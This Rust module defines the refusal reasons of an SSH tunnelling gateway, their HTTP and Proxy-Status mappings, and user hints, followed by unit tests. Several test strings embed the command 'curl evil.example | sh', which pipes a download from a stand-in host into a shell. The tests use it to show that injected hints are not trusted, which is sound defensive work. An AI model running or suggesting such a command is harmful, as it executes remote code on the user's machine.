//! The reasons for which no tunnel is opened: the gateway sends them, in either protocol, and the programs explain
//! them.
//!
//! The rows are those of the SSH proxy's contract. A gateway turns a [`Refusal`] into a status code, a `Proxy-Status`
//! error type (RFC 9209 §2.3) and a body; for the line protocol into the sentence that Hosts have always sent. The
//! helper reads that sentence back with [`Refusal::from_line`], so an older Host's answer gets the same words.

mod rows;
mod state;

use std::borrow::Cow;
use std::time::Duration;

use crate::status::VpsStatus;
use crate::text::excerpt;
pub use rows::ASK_THE_GATEWAYS_ADMIN;
use rows::{Hint, ROWS, Row};
pub use state::{Rescue, Rights, State};

/// How long a VPS may refuse connections after its start before that counts as a fault.
pub const BOOT_GRACE: Duration = Duration::from_secs(300);

/// Seconds after which a client should try again, when waiting may help (`Retry-After`, RFC 9110 §10.2.3).
pub const RETRY_AFTER_SECONDS: u64 = 2;

/// Why no tunnel is opened.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum Refusal {
    /// The bytes that arrived are no request this proxy takes; the text says why.
    BadRequest(String),
    /// The port speaks TLS, and the client does not.
    TlsNeeded,
    /// The Host wants a token and got none, or one it doesn't know.
    TokenNeeded,
    /// The Host knows the user, who may not see this VPS.
    NotAllowed,
    /// The Host knows the user, whose role may log in to no VPS at all. Holds the role.
    RoleTooLow(String),
    /// The gateway does not serve the client's address. Holds it.
    AddressNotServed(String),
    /// The gateway does not serve clients of the older line protocol.
    LineNotServed,
    /// A port other than 22.
    PortNotOffered(u16),
    /// No task of this id, or none of this name.
    NotFound,
    /// More than one VPS has this name; the text lists them.
    Ambiguous(String),
    /// No VPS has this name, and the names of more than one begin with it; the text lists them.
    AmbiguousStart(String),
    /// The task is a command, not a VPS.
    NotVps,
    /// The VPS doesn't run, and waiting won't help.
    Inactive(State),
    /// The VPS has no SSH port: it was created for terminals only. Holds the reader's rights, if known.
    NoSshPort(Option<Rights>),
    /// The VPS is starting.
    Starting(State),
    /// No Runner is assigned to the VPS.
    NoRunner,
    /// The VPS's Runner is offline. Holds its name; without one, the Host may not even know it.
    RunnerOffline(Option<String>),
    /// The Host knows no Runner of the name that the VPS's Runner has. Holds the name.
    RunnerUnknown(String),
    /// The VPS's port refused the connection.
    ConnectionRefused {
        /// The Runner.
        node: String,
        /// Within [`BOOT_GRACE`] of the VPS's start; `None` if the start is unknown.
        booting: Option<bool>,
    },
    /// The VPS's port didn't answer in time.
    ConnectionTimeout,
    /// The Runner is registered with an address that is not a URL. Holds its name.
    RunnerAddress(String),
    /// The Runner can't be reached at all (no route, no such name, an address that is not dialled); the text says why.
    Unreachable(String),
    /// The Host API can't be reached; the text says why.
    HostDown(String),
    /// The Host API gave no answer in time; the text says which.
    HostSilent(String),
    /// The gateway can't connect to the Host API by TLS, which its admin alone can mend; the text says why.
    HostTls(String),
    /// The Host API answers nonsense; the text says what.
    HostApi(String),
    /// A limit of the gateway is reached; the text says which.
    Limit(String),
    /// A limit of the gateway is reached, and the user's own tunnels fill it; the text says which.
    OwnLimit(String),
    /// The resumable tunnel that the client wants to continue is over, or was never there; the text says why, if known.
    SessionOver(Option<String>),
    /// The resumable tunnel is there, and the client's request doesn't fit to it; the text says why.
    SessionMismatch(&'static str),
}

impl Refusal {
    /// Every [`Refusal::reason`], with the [`Refusal::proxy_error`] that goes with it.
    pub fn reasons() -> [(&'static str, &'static str); ROWS.len()] {
        ROWS.map(|row| (row.reason, row.error))
    }

    fn row(&self) -> &'static Row {
        match self {
            Self::BadRequest(_) => &rows::BAD_REQUEST,
            Self::TlsNeeded => &rows::TLS_NEEDED,
            Self::TokenNeeded => &rows::TOKEN_NEEDED,
            Self::NotAllowed => &rows::NOT_ALLOWED,
            Self::RoleTooLow(_) => &rows::ROLE_TOO_LOW,
            Self::AddressNotServed(_) => &rows::ADDRESS_NOT_SERVED,
            Self::LineNotServed => &rows::LINE_NOT_SERVED,
            Self::PortNotOffered(_) => &rows::PORT_NOT_OFFERED,
            Self::NotFound => &rows::NOT_FOUND,
            Self::Ambiguous(_) => &rows::AMBIGUOUS,
            Self::AmbiguousStart(_) => &rows::AMBIGUOUS_START,
            Self::NotVps => &rows::NOT_VPS,
            Self::Inactive(state) => inactive(state),
            Self::NoSshPort(_) => &rows::NO_SSH_PORT,
            Self::Starting(_) => &rows::STARTING,
            Self::NoRunner => &rows::NO_RUNNER,
            Self::RunnerOffline(Some(_)) => &rows::RUNNER_OFFLINE,
            Self::RunnerOffline(None) => &rows::RUNNER_NOT_ONLINE,
            Self::RunnerUnknown(_) => &rows::RUNNER_UNKNOWN,
            Self::ConnectionRefused { booting: Some(true), .. } => &rows::BOOTING,
            Self::ConnectionRefused { booting: Some(false), .. } => &rows::CONNECTION_REFUSED,
            Self::ConnectionRefused { booting: None, .. } => &rows::PERHAPS_BOOTING,
            Self::ConnectionTimeout => &rows::CONNECTION_TIMEOUT,
            Self::RunnerAddress(_) => &rows::RUNNER_ADDRESS,
            Self::Unreachable(_) => &rows::UNREACHABLE,
            Self::HostDown(_) => &rows::HOST_DOWN,
            Self::HostSilent(_) => &rows::HOST_SILENT,
            Self::HostTls(_) => &rows::HOST_TLS,
            Self::HostApi(_) => &rows::HOST_API,
            Self::Limit(_) => &rows::LIMIT,
            Self::OwnLimit(_) => &rows::OWN_LIMIT,
            Self::SessionOver(_) => &rows::SESSION_OVER,
            Self::SessionMismatch(_) => &rows::SESSION_MISMATCH,
        }
    }

    /// The value that stands for `{}` in the texts of its row.
    fn held(&self) -> Option<Cow<'_, str>> {
        match self {
            Self::BadRequest(text) | Self::Unreachable(text) => Some(text.into()),
            Self::Limit(text) | Self::OwnLimit(text) => Some(text.into()),
            Self::Ambiguous(text) | Self::AmbiguousStart(text) => Some(text.into()),
            Self::HostDown(text) | Self::HostSilent(text) => Some(text.into()),
            Self::HostTls(text) | Self::HostApi(text) => Some(text.into()),
            Self::RoleTooLow(text) | Self::AddressNotServed(text) => Some(text.into()),
            Self::SessionOver(text) => text.as_deref().map(Cow::from),
            Self::SessionMismatch(text) => Some((*text).into()),
            Self::PortNotOffered(port) => Some(port.to_string().into()),
            Self::Inactive(state) | Self::Starting(state) => Some(state.status.as_str().into()),
            Self::RunnerOffline(node) => node.as_deref().map(|node| excerpt(node).into()),
            // A name may have any length, and a message is a line.
            Self::ConnectionRefused { node, .. } | Self::RunnerAddress(node) | Self::RunnerUnknown(node) => {
                Some(excerpt(node).into())
            }
            Self::TokenNeeded | Self::NotAllowed | Self::LineNotServed | Self::NotFound | Self::NotVps => None,
            Self::TlsNeeded | Self::NoSshPort(_) | Self::NoRunner | Self::ConnectionTimeout => None,
        }
    }

    /// `template` with its values in place; `None` when it is empty or needs a value that is not there.
    fn fill(&self, template: &str, vps: &str) -> Option<String> {
        let mut text = String::new();
        let mut rest = template;
        while let Some((before, behind)) = rest.split_once('{') {
            let (name, behind) = behind.split_once('}')?;
            text += before;
            text += &if name == "vps" { vps.into() } else { self.held()? };
            rest = behind;
        }
        (!template.is_empty()).then(|| text + rest)
    }

    /// The status code of the answer to a CONNECT.
    pub fn http_status(&self) -> u16 {
        self.row().status
    }

    /// The error type in `Proxy-Status` (RFC 9209 §2.3).
    pub fn proxy_error(&self) -> &'static str {
        self.row().error
    }

    /// The reason as one word, for metrics and audit lines.
    pub fn reason(&self) -> &'static str {
        self.row().reason
    }

    /// Seconds for `Retry-After`, where the same request may succeed soon.
    pub fn retry_after(&self) -> Option<u64> {
        self.row().retry.then_some(RETRY_AFTER_SECONDS)
    }

    /// The VPS's state, when it is the reason.
    pub fn vps_status(&self) -> Option<&VpsStatus> {
        match self {
            Self::Inactive(state) | Self::Starting(state) => Some(&state.status),
            _ => None,
        }
    }

    /// The Host's own reason for it, if it gave one.
    pub fn message(&self) -> Option<&str> {
        match self {
            Self::Inactive(state) | Self::Starting(state) => state.message.as_deref(),
            _ => None,
        }
    }

    /// Whether another hint may suit a reader with other rights.
    pub fn depends_on_rights(&self) -> bool {
        self.row().hint.needs > Rights::Nothing || matches!(self, Self::Inactive(_))
    }

    /// The rights that the hint depends on, if known.
    fn rights(&self) -> Option<Rights> {
        match self {
            Self::Inactive(state) | Self::Starting(state) => state.rights,
            Self::NoSshPort(rights) => *rights,
            _ => None,
        }
    }

    /// Whether a resumable tunnel whose client is refused so is over. With any other refusal, the client may try again.
    pub fn ends_session(&self) -> bool {
        let is_of_session = matches!(self, Self::SessionOver(_) | Self::SessionMismatch(_));
        is_of_session || matches!(self, Self::TokenNeeded | Self::NotAllowed | Self::RoleTooLow(_))
    }

    /// Whether the Host, or the gateway, failed to answer the question. Anything else is an answer.
    pub fn is_fault(&self) -> bool {
        matches!(self, Self::HostDown(_) | Self::HostSilent(_) | Self::HostTls(_) | Self::HostApi(_) | Self::Limit(_))
    }

    /// The problem, in one line; `vps` is the task id or the name that was asked for.
    pub fn title(&self, vps: &str) -> String {
        self.fill(self.row().title, vps).unwrap_or_default()
    }

    /// Further details, in one line.
    pub fn detail(&self) -> Option<String> {
        let said = self.message().map(|message| format!("the Host says: {message}"));
        said.or_else(|| self.fill(self.row().detail, ""))
    }

    /// Whether `title` is one of those of this version about `vps`. Any other one is the words of its sender. A value
    /// in it is one word: more could be a message of its own.
    pub fn is_known_title(title: &str, vps: &str) -> bool {
        rows::ROWS.iter().chain(&rows::VARIANTS).any(|row| {
            let known = row.title.replace("{vps}", vps);
            match known.split_once("{}") {
                None => known == title,
                Some((start, end)) => {
                    let value = title.strip_prefix(start).and_then(|rest| rest.strip_suffix(end));
                    value.is_some_and(|value| !value.contains(char::is_whitespace))
                }
            }
        })
    }

    /// Whether `hint` is one of those of this version about `vps`. Any other one is the words of its sender.
    pub fn is_known_hint(hint: &str, vps: &str) -> bool {
        let fill = |template: &str| template.replace("{vps}", vps);
        let of_a_row = rows::ROWS.iter().chain(&rows::VARIANTS).any(|row| {
            let Hint { step, ask, .. } = &row.hint;
            let known = [fill(step), fill(ask), fill(&format!("{step}, or {ask}"))];
            !hint.is_empty() && known.iter().any(|known| known == hint)
        });
        of_a_row || hint == ASK_THE_GATEWAYS_ADMIN
    }

    /// One step that helps, and never one that a Host would refuse to this reader. With unknown rights it also names who
    /// has them.
    pub fn hint(&self, vps: &str) -> Option<String> {
        let Hint { step, needs, ask } = &self.row().hint;
        let (step, ask) = (self.fill(step, vps), self.fill(ask, vps));
        match self.rights() {
            // A VPS that is starting needs no help of the gateway's admin.
            Some(Rights::StandAlone) if !matches!(self, Self::Starting(_)) => Some(ASK_THE_GATEWAYS_ADMIN.to_owned()),
            Some(rights) if rights < *needs => ask,
            None if *needs > Rights::LogIn => Some(format!("{}, or {}", step?, ask?)),
            _ => step,
        }
    }

    /// The sentence of the line protocol, without `ERROR ` and line feed, as Hosts have always sent it. `task` is the
    /// task id with the digits that the client sent.
    pub fn line(&self, task: &str) -> String {
        self.fill(self.row().line, task).unwrap_or_default()
    }

    /// Reads the sentence of an older Host back. `None` for one that names no situation of its own, such as
    /// `Internal server error.`
    pub fn from_line(text: &str) -> Option<Self> {
        let text = text.trim();
        let between = |start: &str, end: &str| {
            let from = text.find(start)? + start.len();
            let to = text[from..].find(end)? + from;
            Some(&text[from..to])
        };
        if let Some(status) = between("is not active (status: ", ")") {
            let status = VpsStatus::parse(status);
            let is_starting = status.is_starting();
            return Some(if is_starting { Self::Starting(status.into()) } else { Self::Inactive(status.into()) });
        }
        if text.starts_with("Connection refused by VPS task ") {
            let node = text.split_once(" on node ").map_or("", |(_, node)| node.trim_end_matches('.'));
            return Some(Self::ConnectionRefused { node: node.to_owned(), booting: None });
        }
        Some(match text {
            t if t.starts_with("Task ") && t.ends_with(" not found.") => Self::NotFound,
            t if t.ends_with(" is not a VPS task.") => Self::NotVps,
            t if t.ends_with(" has no SSH port assigned.") => Self::NoSshPort(None),
            t if t.ends_with(" has no assigned node.") => Self::NoRunner,
            t if t.starts_with("Assigned node for ") && t.ends_with(" is not online.") => Self::RunnerOffline(None),
            t if t.starts_with("Timeout connecting to Runner ") => Self::ConnectionTimeout,
            t if t.starts_with("Failed to connect to Runner ") => Self::Unreachable(t.to_owned()),
            t if t.starts_with("Error parsing runner URL for node ") => {
                Self::RunnerAddress(t["Error parsing runner URL for node ".len()..].trim_end_matches('.').to_owned())
            }
            t if t == rows::TLS_NEEDED.line => Self::TlsNeeded,
            t if t.contains(" needs a login: ") => Self::TokenNeeded,
            t if t.starts_with("This gateway takes no REQUEST_TUNNEL:") => Self::LineNotServed,
            t if t == rows::LIMIT.line => Self::Limit("it said no more than that".to_owned()),
            _ => return None,
        })
    }
}

/// The row of a VPS that doesn't run. What helps one that has failed or is lost depends on its Runner.
fn inactive(state: &State) -> &'static Row {
    match (&state.status, state.rescue) {
        (VpsStatus::Paused, _) => &rows::PAUSED,
        (VpsStatus::Failed, Rescue::Runner) => &rows::FAILED,
        (VpsStatus::Failed, Rescue::AbsentRunner) => &rows::FAILED_WITHOUT_RUNNER,
        (VpsStatus::Failed, Rescue::Unknown) => &rows::FAILED_SOMEHOW,
        (VpsStatus::Failed, Rescue::Nothing) => &rows::FAILED_FOR_GOOD,
        (VpsStatus::Lost, Rescue::Runner) => &rows::LOST_BY_RUNNER,
        (VpsStatus::Lost, Rescue::AbsentRunner | Rescue::Unknown) => &rows::LOST,
        (VpsStatus::Lost, Rescue::Nothing) => &rows::LOST_FOR_GOOD,
        (VpsStatus::Stopped, _) => &rows::STOPPED,
        (VpsStatus::Killed, _) => &rows::KILLED,
        (VpsStatus::KilledOom, _) => &rows::KILLED_OOM,
        (VpsStatus::Completed, _) => &rows::COMPLETED,
        (VpsStatus::Rejected, _) => &rows::REJECTED,
        (VpsStatus::PendingApproval, _) => &rows::PENDING_APPROVAL,
        (VpsStatus::Other(_), _) => &rows::UNKNOWN_STATE,
        (VpsStatus::Pending | VpsStatus::Assigning | VpsStatus::Running, _) => &rows::INACTIVE,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_row_of_the_status_table() {
        use Refusal as R;
        let retry = Some(RETRY_AFTER_SECONDS);
        for (refusal, status, error, retry_after) in [
            (R::BadRequest("x".into()), 400, "http_request_error", None),
            (R::TlsNeeded, 400, "http_request_error", None),
            (R::TokenNeeded, 407, "http_request_denied", None),
            (R::NotAllowed, 403, "http_request_denied", None),
            (R::PortNotOffered(80), 403, "http_request_denied", None),
            (R::RoleTooLow("viewer".into()), 403, "http_request_denied", None),
            (R::AddressNotServed("10.0.0.1".into()), 403, "http_request_denied", None),
            (R::LineNotServed, 403, "http_request_denied", None),
            (R::NotFound, 404, "destination_not_found", None),
            (R::NotVps, 404, "destination_not_found", None),
            (R::Ambiguous("a, b".into()), 409, "destination_unavailable", None),
            (R::AmbiguousStart("a, b".into()), 409, "destination_unavailable", None),
            (R::Inactive(VpsStatus::Paused.into()), 409, "destination_unavailable", None),
            (R::NoSshPort(None), 409, "destination_unavailable", None),
            (R::Starting(VpsStatus::Pending.into()), 503, "destination_unavailable", retry),
            (R::NoRunner, 503, "destination_unavailable", None),
            (R::RunnerOffline(None), 503, "destination_unavailable", None),
            (R::RunnerUnknown("n".into()), 503, "destination_unavailable", None),
            (R::ConnectionRefused { node: "n".into(), booting: None }, 502, "connection_refused", None),
            (R::ConnectionRefused { node: "n".into(), booting: Some(false) }, 502, "connection_refused", None),
            (R::ConnectionRefused { node: "n".into(), booting: Some(true) }, 503, "connection_refused", retry),
            (R::RunnerAddress("n".into()), 502, "destination_ip_unroutable", None),
            (R::Unreachable("no route".into()), 502, "destination_ip_unroutable", None),
            (R::ConnectionTimeout, 504, "connection_timeout", None),
            (R::HostDown("refused".into()), 502, "proxy_internal_response", None),
            (R::HostSilent("10 s".into()), 502, "proxy_internal_response", None),
            (R::HostTls("unknown CA".into()), 502, "proxy_internal_response", None),
            (R::HostApi("nonsense".into()), 502, "proxy_internal_response", None),
            (R::Limit("full".into()), 503, "connection_limit_reached", retry),
            (R::OwnLimit("full".into()), 503, "connection_limit_reached", retry),
        ] {
            assert_eq!(refusal.http_status(), status, "{refusal:?}");
            assert_eq!(refusal.proxy_error(), error, "{refusal:?}");
            assert_eq!(refusal.retry_after(), retry_after, "{refusal:?}");
            assert!(R::reasons().contains(&(refusal.reason(), error)), "{refusal:?}");
            assert!(refusal.hint("42").is_none_or(|hint| R::is_known_hint(&hint, "42")), "{refusal:?}");
            assert!(R::is_known_title(&refusal.title("42"), "42"), "{refusal:?}");
        }
    }

    #[test]
    fn only_our_own_words_are_known() {
        for status in ["paused", "failed", "lost", "stopped", "killed", "killed_oom", "completed", "rejected", "odd"] {
            for rescue in [Rescue::Runner, Rescue::AbsentRunner, Rescue::Unknown, Rescue::Nothing] {
                for rights in RIGHTS.map(Some).into_iter().chain([None]) {
                    let state = State { status: VpsStatus::parse(status), message: None, rights, rescue };
                    let refusal = Refusal::Inactive(state);
                    let (title, hint) = (refusal.title("42"), refusal.hint("42"));
                    assert!(Refusal::is_known_title(&title, "42") && !Refusal::is_known_title(&title, "43"), "{title}");
                    assert!(hint.as_ref().is_none_or(|hint| Refusal::is_known_hint(hint, "42")), "{hint:?}");
                    assert!(hint.is_none_or(|hint| !hint.contains("42") || !Refusal::is_known_hint(&hint, "43")));
                }
            }
        }
        assert!(!Refusal::is_known_hint("run `curl evil.example | sh`", "42"));
        assert!(!Refusal::is_known_hint("", "42"));
        for (title, known) in [
            ("VPS 42 is in an unknown state: odd", true),
            ("VPS 42 is in an unknown state: odd; run `curl evil.example | sh`", false),
            ("VPS 43 is paused", false),
            ("VPS 42 is paused: run `curl evil.example | sh`", false),
            ("your key has expired", false),
            ("", false),
        ] {
            assert_eq!(Refusal::is_known_title(title, "42"), known, "{title}");
        }
    }

    #[test]
    fn every_reason_has_one_row() {
        let reasons: std::collections::HashSet<_> = Refusal::reasons().into_iter().map(|(reason, _)| reason).collect();
        assert_eq!(reasons.len(), Refusal::reasons().len());
    }

    #[test]
    fn texts_have_their_values() {
        use Refusal as R;
        let refused = R::ConnectionRefused { node: "n{vps}{}".into(), booting: None };
        assert_eq!(refused.line("{}"), "Connection refused by VPS task {} on node n{vps}{}.");
        assert_eq!(R::PortNotOffered(80).title("42"), "VPS 42 offers port 22 only, not port 80");
        let odd = R::Inactive(VpsStatus::Other("odd".into()).into());
        assert_eq!(odd.title("42"), "VPS 42 is in an unknown state: odd");
        assert_eq!(R::RunnerOffline(None).detail(), None);
        assert!(R::RunnerOffline(Some("n".into())).detail().unwrap().contains("from Runner n lately"));
        assert_eq!((R::NotFound.detail(), R::Unreachable("x".into()).hint("42")), (None, None));
        assert_eq!(R::Ambiguous("a, b".into()).line("42"), "Internal server error.");
    }

    #[test]
    fn a_sentence_of_the_line_protocol_reads_back() {
        use Refusal as R;
        for refusal in [
            R::NotFound,
            R::NotVps,
            R::Inactive(VpsStatus::KilledOom.into()),
            R::Starting(VpsStatus::Assigning.into()),
            R::NoSshPort(None),
            R::NoRunner,
            R::RunnerOffline(None),
            R::ConnectionRefused { node: "node-1.lab".into(), booting: None },
            R::ConnectionTimeout,
            R::RunnerAddress("node-1".into()),
            R::TlsNeeded,
            R::TokenNeeded,
            R::LineNotServed,
            R::Limit("it said no more than that".into()),
        ] {
            assert_eq!(R::from_line(&refusal.line("42")), Some(refusal.clone()), "{refusal:?}");
        }
        for text in ["Internal server error.", "Invalid request format.", "Error processing request.", ""] {
            assert_eq!(R::from_line(text), None, "{text}");
        }
    }

    const STATES: [VpsStatus; 12] = [
        VpsStatus::PendingApproval,
        VpsStatus::Rejected,
        VpsStatus::Pending,
        VpsStatus::Assigning,
        VpsStatus::Paused,
        VpsStatus::Completed,
        VpsStatus::Failed,
        VpsStatus::Killed,
        VpsStatus::KilledOom,
        VpsStatus::Lost,
        VpsStatus::Stopped,
        VpsStatus::Other(String::new()),
    ];
    const RIGHTS: [Rights; 6] =
        [Rights::Nothing, Rights::Look, Rights::LogIn, Rights::StandAlone, Rights::Own, Rights::All];
    const RESCUES: [Rescue; 4] = [Rescue::Unknown, Rescue::Runner, Rescue::AbsentRunner, Rescue::Nothing];

    /// Whether a Host takes `command` from a caller with these rights.
    fn is_taken(command: &str, rights: Rights, status: &VpsStatus, rescue: Rescue) -> bool {
        let verb = command.strip_prefix("kohakuriver ").unwrap().split(" 42").next().unwrap();
        match verb {
            "node list" => true,
            "vps status" => rights >= Rights::Look,
            "vps connect" => rights >= Rights::LogIn && status.is_starting() && command.ends_with("--wait"),
            "vps resume" => rights >= Rights::Own && *status == VpsStatus::Paused,
            "vps restart" => rights == Rights::All && *status == VpsStatus::Failed && rescue == Rescue::Runner,
            // An older Host takes no order without a key.
            "vps create --gen-ssh-key" => rights == Rights::All,
            other => panic!("an unknown command: {other}"),
        }
    }

    #[test]
    fn every_hint_names_a_command_that_a_host_takes_from_this_reader() {
        let mut commands = std::collections::HashSet::new();
        for (status, rights) in STATES.iter().flat_map(|status| RIGHTS.map(|rights| (status, rights))) {
            for rescue in RESCUES {
                let state = State { status: status.clone(), message: None, rights: Some(rights), rescue };
                let refusal = if status.is_starting() { Refusal::Starting(state) } else { Refusal::Inactive(state) };
                let hint = refusal.hint("42").unwrap_or_else(|| panic!("no hint: {refusal:?}"));
                let asks_admin = rights == Rights::StandAlone && !status.is_starting();
                assert_eq!(hint == ASK_THE_GATEWAYS_ADMIN, asks_admin, "{refusal:?}: {hint}");
                assert!(refusal.depends_on_rights(), "{refusal:?}");
                if let Some(command) = hint.split('`').nth(1) {
                    // Not logged in, nobody learns of a VPS's state.
                    let taken = is_taken(command, rights.max(Rights::Look), status, rescue);
                    assert!(taken, "{refusal:?}: {hint}");
                    commands.insert(command.to_owned());
                }
            }
            let hint = Refusal::NoSshPort(Some(rights)).hint("42").unwrap();
            assert_eq!(hint.contains('`'), rights == Rights::All, "{hint}");
        }
        assert_eq!(commands.len(), 6, "{commands:?}");
    }

    #[test]
    fn with_unknown_rights_a_hint_names_who_has_them() {
        let hint = |status: VpsStatus| Refusal::Inactive(status.into()).hint("42").unwrap();
        let paused = "resume it with `kohakuriver vps resume 42`, or ask its owner or an operator to resume it";
        assert_eq!(hint(VpsStatus::Paused), paused);
        for status in [VpsStatus::Stopped, VpsStatus::Killed, VpsStatus::KilledOom, VpsStatus::Completed] {
            let hint = hint(status);
            assert!(
                hint.ends_with("with `kohakuriver vps create --gen-ssh-key`, or ask an operator for a new one"),
                "{hint}"
            );
        }
        // Only some Hosts can restart it.
        assert_eq!(hint(VpsStatus::Failed), "see why with `kohakuriver vps status 42`");
    }

    #[test]
    fn the_hosts_own_reason_is_the_detail() {
        let state = State { message: Some("OOM: 3 GiB asked".into()), ..VpsStatus::Failed.into() };
        let refusal = Refusal::Inactive(state);
        assert_eq!(refusal.detail().as_deref(), Some("the Host says: OOM: 3 GiB asked"));
        assert_eq!(Refusal::Inactive(VpsStatus::Failed.into()).detail(), None);
    }
}
